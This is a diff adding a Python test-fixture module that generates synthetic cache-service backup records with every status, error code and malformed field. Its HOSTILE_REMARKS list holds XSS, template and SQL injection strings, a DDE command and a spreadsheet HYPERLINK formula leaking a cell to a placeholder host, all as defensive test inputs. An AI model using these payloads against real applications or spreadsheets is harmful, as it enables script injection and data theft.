@@ -1,0 +1,210 @@
+"""Records that test their reader: every status and error code, hostile remarks, odd fields.
+
+These stand at fixed dates, so that a link to one of them stays true.
+"""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+from .histories import ERROR_CODES, Attempt, automatic, backup_name, daily, manual, rows
+from .inventory import Instance, Json, Row, iso, newest_first, row, stable_id
+
+_FROM = datetime(2026, 11, 1, tzinfo=UTC)
+MISSING = object()
+
+
+def every_error_code(instance: Instance, now: datetime) -> list[Row]:
+    """The eight error codes on eight days, a success behind them, and a code that no page lists."""
+    days = [(_FROM + timedelta(days=n)).date() for n in range(10)]
+    codes = [None, *ERROR_CODES, "dcs.08.0042"]
+    attempts = [
+        automatic(instance, day, error_code=code, remark=f"case {code}" if code else None)
+        for day, code in zip(days, codes, strict=True)
+    ]
+    return rows(instance, attempts, now)
+
+
+def every_status(instance: Instance, now: datetime) -> list[Row]:
+    """The six statuses, one that does not exist yet, and a type that does not exist either."""
+    cases: list[Json] = [
+        {"status": "waiting", "progress": "0.00", "size": 0, "is_support_restore": "FALSE"},
+        {"status": "backuping", "progress": "41.50", "size": 0, "is_support_restore": "FALSE"},
+        {"status": "succeed"},
+        {
+            "status": "succeed",
+            "is_support_restore": "FALSE",
+            "remark": "made before the change of specification",
+        },
+        {"status": "failed", "error_code": "dcs.08.0006", "progress": "63.00", "is_support_restore": "FALSE"},
+        {"status": "expired", "is_support_restore": "FALSE"},
+        {"status": "deleted", "backup_type": "manual", "is_support_restore": "FALSE"},
+        {"status": "archived", "remark": "a status that no page lists", "is_support_restore": "FALSE"},
+        {"status": "succeed", "backup_type": "replica", "remark": "a type that no page lists"},
+    ]
+    return _placed(instance, "status", cases, now)
+
+
+def hostile_remarks(instance: Instance, now: datetime) -> list[Row]:
+    """What a user may have typed: markup, spreadsheet formulas, control characters, odd scripts."""
+    cases: list[Json] = [
+        {"backup_type": "manual", "remark": text, "period": None} for text in HOSTILE_REMARKS
+    ]
+    return _placed(instance, "remark", cases, now)
+
+
+HOSTILE_REMARKS = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7*7 }} {% now 'Y' %}",
+    "=1+1",
+    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2",
+    "@SUM(1+1)*2",
+    "\t=1+1",
+    "\r=1+1",
+    "two\nlines",
+    'it\'s "quoted", with; separators | and `ticks`',
+    "100% of %s & more %20",
+    "‮gnp.tsaf‬",
+    "zero​width﻿ and nul-like ␀",
+    "a\x00b\x1b[31mred",
+    "e\u0301 é Straße STRASSE ſ İ ı",
+    "emoji 🧯🧑‍🚒 and 𠮷野家",
+    "' OR 1=1; --",
+    "javascript:alert(1)",
+    "n" * 128,
+    "长" * 128,
+    " ",
+)
+
+
+def chinese(instance: Instance, now: datetime) -> list[Row]:
+    """An ordinary history with Chinese remarks."""
+    remarks = ("发布前备份", "扩容前备份，请勿删除", "大促压测：双十一", "工单 INC-20511 手动备份")
+    return daily(instance, now, days=35, manual_every=6, remarks=remarks)
+
+
+def resized(instance: Instance, now: datetime) -> list[Row]:
+    """Everything from before a change of specification succeeded and cannot be restored."""
+    days = [(_FROM + timedelta(days=n)).date() for n in range(0, 22, 3)]
+    attempts: list[Attempt] = [manual(instance, day, remark="weekly copy") for day in days]
+    listed = [attempt.record(instance, now) for attempt in attempts if attempt.created <= now]
+    changed = iso(_FROM + timedelta(days=14))
+    for record in listed:
+        if record["created_at"] < changed and record["status"] == "succeed":
+            record["is_support_restore"] = "FALSE"
+    return newest_first([row(record, datetime.fromisoformat(record["created_at"])) for record in listed])
+
+
+def odd_fields(instance: Instance, now: datetime) -> list[Row]:
+    """Every oddity of dcs-api.md, section 1, one or two to a record."""
+    return _placed(instance, "odd", ODD_CASES, now)
+
+
+# What replaces a field of an ordinary record; MISSING takes the field away.
+ODD_CASES: list[Json] = [
+    {"remark": {}, "period": {}, "error_code": {}, "backup_format": {}, "execution_at": {}},
+    {"remark": None, "period": None, "error_code": None, "backup_format": None, "execution_at": None},
+    {"remark": "", "period": "", "error_code": "", "backup_format": "", "execution_at": "", "progress": ""},
+    dict.fromkeys(
+        ("remark", "period", "error_code", "backup_format", "execution_at", "instance_id", "progress"),
+        MISSING,
+    ),
+    {"size": "73400320", "remark": "size as a string"},
+    {"size": "", "remark": "size empty"},
+    {"size": {}, "remark": "size as {}"},
+    {"size": -1, "remark": "size below zero"},
+    {"size": 9.5e18, "remark": "size beyond 64 bits, as a float"},
+    {"size": "1.5 GB", "remark": "size in words"},
+    {"size": 0, "remark": "size zero"},
+    {"size": 6_597_069_766_656, "remark": "size of 6 TB"},
+    {"is_support_restore": "true", "remark": "restorable in lower case"},
+    {"is_support_restore": True, "remark": "restorable as a boolean"},
+    {"is_support_restore": False, "remark": "not restorable as a boolean"},
+    {"is_support_restore": "maybe", "remark": "restorable: maybe"},
+    {"is_support_restore": MISSING, "remark": "restorable missing"},
+    {"is_support_restore": {}, "remark": "restorable as {}"},
+    {"is_support_restore": " TRUE ", "remark": "restorable with blanks"},
+    {"backup_format": "RDB", "remark": "format in capitals"},
+    {"backup_format": "aof", "remark": "format aof"},
+    {"backup_format": "AOF", "remark": "format aof in capitals"},
+    {"backup_format": "snapshot", "remark": "a format that no page lists"},
+    {
+        "created_at": "2026-11-09 08:31:16",
+        "execution_at": "2026-11-09 08:31:21",
+        "updated_at": "2026-11-09 08:32:30",
+        "remark": "times with a blank",
+    },
+    {
+        "created_at": "2026-11-10T08:31:16.166Z",
+        "execution_at": "2026-11-11T08:31:16.166Z",
+        "updated_at": "2026-11-10T08:32:30.546Z",
+        "remark": "started a day after it ended, as in an official sample",
+    },
+    {"created_at": "2026-11-10T16:31:16+08:00", "remark": "time with an offset"},
+    {"execution_at": "yesterday", "remark": "start not readable"},
+    {"created_at": "not a time", "execution_at": MISSING, "remark": "no time at all readable"},
+    {"updated_at": "0000-00-00 00:00:00", "remark": "end not readable"},
+    {"created_at": 1_762_000_000_000, "remark": "created_at as a number"},
+    {"progress": "", "remark": "progress empty"},
+    {"progress": "abc", "remark": "progress in letters"},
+    {"progress": 100, "remark": "progress as a number"},
+    {"progress": "250.00", "remark": "progress beyond 100"},
+    {"status": "backuping", "progress": None, "size": "", "remark": "running, progress unknown"},
+    {"status": "SUCCEED", "remark": "status in capitals"},
+    {"status": "quarantined", "remark": "a status that no page lists"},
+    {"status": None, "remark": "status null"},
+    {"status": MISSING, "remark": "status missing"},
+    {"status": "succeed", "error_code": "dcs.08.0002", "remark": "succeeded with an error code"},
+    {
+        "status": "failed",
+        "error_code": None,
+        "is_support_restore": "TRUE",
+        "remark": "failed, yet restorable",
+    },
+    {"status": "failed", "error_code": "DCS.08.0009", "remark": "an error code that no page lists"},
+    {"backup_type": "weekly", "remark": "a type that no page lists"},
+    {"backup_type": MISSING, "remark": "type missing"},
+    {"backup_name": MISSING, "remark": "name missing"},
+    {"backup_name": {}, "remark": "name as {}"},
+    {"backup_name": "a name <b>with</b> markup & more", "remark": "name with markup"},
+    {"remark": ["a", "list"], "period": 22},
+    {"remark": 42},
+    {"remark": "a very long remark, far beyond the documented 128 characters. " * 80},
+    {"future_field": {"nested": [1, 2, {"deep": True}]}, "remark": "a field that no page lists"},
+]
+
+
+def _placed(instance: Instance, label: str, cases: list[Json], now: datetime) -> list[Row]:
+    """Return a row per case, seven hours apart; the service's own created time stays in order."""
+    found = [_case(instance, label, number, case) for number, case in enumerate(cases)]
+    return newest_first([one for one in found if one.created is None or one.created <= now])
+
+
+def _case(instance: Instance, label: str, number: int, case: Json) -> Row:
+    created = _FROM + timedelta(hours=7 * number, minutes=3, milliseconds=217)
+    record = _ordinary(instance, stable_id(instance.instance_id, label, number), created) | case
+    return row({name: value for name, value in record.items() if value is not MISSING}, created)
+
+
+def _ordinary(instance: Instance, backup_id: str, created: datetime) -> dict[str, Any]:
+    return {
+        "period": f"{created:%H}:00-{(created.hour + 1) % 24:02d}:00",
+        "backup_type": "auto",
+        "created_at": iso(created),
+        "execution_at": iso(created + timedelta(seconds=5.295)),
+        "remark": None,
+        "is_support_restore": "TRUE",
+        "backup_id": backup_id,
+        "backup_name": backup_name(created),
+        "instance_id": instance.instance_id,
+        "size": 73_400_320 + int(created.timestamp()) % 1_000_003,
+        "updated_at": iso(created + timedelta(seconds=74.38)),
+        "progress": "100.00",
+        "error_code": None,
+        "status": "succeed",
+        "backup_format": "rdb",
+    }
